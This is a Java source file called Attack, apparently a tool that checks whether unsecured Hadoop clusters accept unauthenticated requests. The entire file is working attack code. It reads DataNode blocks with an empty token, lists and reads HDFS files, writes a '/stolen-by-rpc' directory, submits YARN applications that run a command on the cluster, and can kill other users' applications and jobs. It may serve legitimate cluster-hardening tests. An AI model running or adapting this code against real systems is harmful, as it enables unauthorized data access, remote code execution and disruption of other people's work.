// Tries Hadoop's RPC and data ports as the user who owns the cluster, by name: one line for each
// success, "HOST:PORT WHAT".  java -cp HOME/path.jar Attack.java KNOWN.json HOST:PORT...

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.DataOutputStream;
import java.io.File;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.List;
import java.util.Map;
import org.apache.hadoop.conf.Configuration;
import org.apache.hadoop.hdfs.DFSClient;
import org.apache.hadoop.hdfs.protocol.ExtendedBlock;
import org.apache.hadoop.hdfs.protocol.HdfsFileStatus;
import org.apache.hadoop.hdfs.protocol.datatransfer.Sender;
import org.apache.hadoop.hdfs.protocol.proto.DataTransferProtos.BlockOpResponseProto;
import org.apache.hadoop.hdfs.protocol.proto.DataTransferProtos.Status;
import org.apache.hadoop.hdfs.protocolPB.PBHelperClient;
import org.apache.hadoop.hdfs.server.datanode.CachingStrategy;
import org.apache.hadoop.mapreduce.TypeConverter;
import org.apache.hadoop.mapreduce.v2.api.HSClientProtocol;
import org.apache.hadoop.mapreduce.v2.api.MRClientProtocol;
import org.apache.hadoop.mapreduce.v2.api.impl.pb.client.HSClientProtocolPBClientImpl;
import org.apache.hadoop.mapreduce.v2.api.impl.pb.client.MRClientProtocolPBClientImpl;
import org.apache.hadoop.mapreduce.v2.api.protocolrecords.GetJobReportRequest;
import org.apache.hadoop.mapreduce.v2.api.protocolrecords.KillJobRequest;
import org.apache.hadoop.mapreduce.v2.api.records.JobId;
import org.apache.hadoop.security.token.Token;
import org.apache.hadoop.yarn.api.ApplicationClientProtocol;
import org.apache.hadoop.yarn.api.impl.pb.client.ApplicationClientProtocolPBClientImpl;
import org.apache.hadoop.yarn.api.protocolrecords.GetApplicationsRequest;
import org.apache.hadoop.yarn.api.protocolrecords.GetNewApplicationRequest;
import org.apache.hadoop.yarn.api.protocolrecords.KillApplicationRequest;
import org.apache.hadoop.yarn.api.protocolrecords.SubmitApplicationRequest;
import org.apache.hadoop.yarn.api.records.ApplicationId;
import org.apache.hadoop.yarn.api.records.ApplicationSubmissionContext;
import org.apache.hadoop.yarn.api.records.ContainerLaunchContext;
import org.apache.hadoop.yarn.api.records.Priority;
import org.apache.hadoop.yarn.api.records.Resource;
import org.apache.hadoop.yarn.util.Records;

public class Attack {
  interface Try {
    void run() throws Exception;
  }

  static String place;

  static void attempt(String what, Try tried) {
    try {
      tried.run();
      System.out.println(place + " " + what);
    } catch (Throwable refused) {
      if (System.getenv("ATTACK_TRACE") != null) {
        System.err.println(place + " " + what + ": " + refused.toString().split("\n")[0]);
      }
    }
  }

  public static void main(String[] arguments) throws Exception {
    JsonNode known = new ObjectMapper().readTree(new File(arguments[0]));
    Configuration conf = new Configuration();
    for (String name :
        List.of(
            "ipc.client.connect.max.retries", "ipc.client.connect.max.retries.on.timeouts",
            "ipc.client.connect.max.retries.on.sasl", "dfs.client.max.block.acquire.failures")) {
      conf.setInt(name, 0);
    }
    conf.setInt("ipc.client.connect.timeout", 3000);
    conf.setInt("ipc.client.rpc-timeout.ms", 6000);
    String application = known.get("application").asText();
    String file = known.get("file").asText();
    for (String given : List.of(arguments).subList(1, arguments.length)) {
      place = given;
      int colon = given.lastIndexOf(':');
      String host = given.substring(0, colon);
      int port = Integer.parseInt(given.substring(colon + 1));
      InetSocketAddress address = new InetSocketAddress(host, port);
      attempt("data port: read a block", () -> readBlock(known.get("block"), address));
      try (DFSClient client = new DFSClient(address, conf)) {
        attempt("rpc: list /", () -> client.listPaths("/", HdfsFileStatus.EMPTY_NAME).getClass());
        attempt("rpc: read a file", () -> client.open(file).read());
        attempt("rpc: write", () -> client.mkdirs("/stolen-by-rpc", null, true));
      } catch (Exception refused) {
        // it is no NameNode
      }
      ApplicationId victim = ApplicationId.fromString(application);
      ApplicationClientProtocol yarn = new ApplicationClientProtocolPBClientImpl(1, address, conf);
      attempt("rpc: list jobs", () -> yarn.getApplications(GetApplicationsRequest.newInstance()));
      attempt("rpc: submit", () -> submit(yarn));
      if (known.get("kills").asBoolean()) {
        attempt("rpc: kill",
            () -> yarn.forceKillApplication(KillApplicationRequest.newInstance(victim)));
      }
      JobId job =
          TypeConverter.toYarn(
              org.apache.hadoop.mapreduce.JobID.forName(application.replace("application", "job")));
      for (MRClientProtocol jobs :
          List.of(
              new MRClientProtocolPBClientImpl(1, address, conf),
              new HSClientProtocolPBClientImpl(1, address, conf))) {
        GetJobReportRequest report = Records.newRecord(GetJobReportRequest.class);
        report.setJobId(job);
        attempt("rpc: read a job", () -> jobs.getJobReport(report));
        KillJobRequest kill = Records.newRecord(KillJobRequest.class);
        kill.setJobId(job);
        if (known.get("kills").asBoolean() && !(jobs instanceof HSClientProtocol)) {
          attempt("rpc: kill a job", () -> jobs.killJob(kill));
        }
      }
    }
    System.out.println("all were tried");
    System.exit(0);
  }

  /** An application whose master would run a command of ours. */
  static void submit(ApplicationClientProtocol yarn) throws Exception {
    ApplicationId id =
        yarn.getNewApplication(GetNewApplicationRequest.newInstance()).getApplicationId();
    ContainerLaunchContext command =
        ContainerLaunchContext.newInstance(
            Map.of(), Map.of(), List.of("id"), Map.of(), null, Map.of());
    ApplicationSubmissionContext context =
        ApplicationSubmissionContext.newInstance(
            id, "stolen", "default", Priority.newInstance(0), command, false, true, 1,
            Resource.newInstance(64, 1));
    yarn.submitApplication(SubmitApplicationRequest.newInstance(context));
  }

  /** A block without the token of the NameNode. */
  static void readBlock(JsonNode known, InetSocketAddress address) throws Exception {
    ExtendedBlock block =
        new ExtendedBlock(
            known.get("pool").asText(), known.get("id").asLong(), 1,
            known.get("generation").asLong());
    try (Socket socket = new Socket()) {
      socket.connect(address, 3000);
      socket.setSoTimeout(4000);
      DataOutputStream output = new DataOutputStream(socket.getOutputStream());
      new Sender(output)
          .readBlock(
              block, new Token<>(), "attack", 0, 1, true, CachingStrategy.newDefaultStrategy());
      output.flush();
      BlockOpResponseProto answer =
          BlockOpResponseProto.parseFrom(PBHelperClient.vintPrefixed(socket.getInputStream()));
      if (answer.getStatus() != Status.SUCCESS) {
        throw new IllegalStateException(answer.getStatus() + " " + answer.getMessage());
      }
    }
  }
}
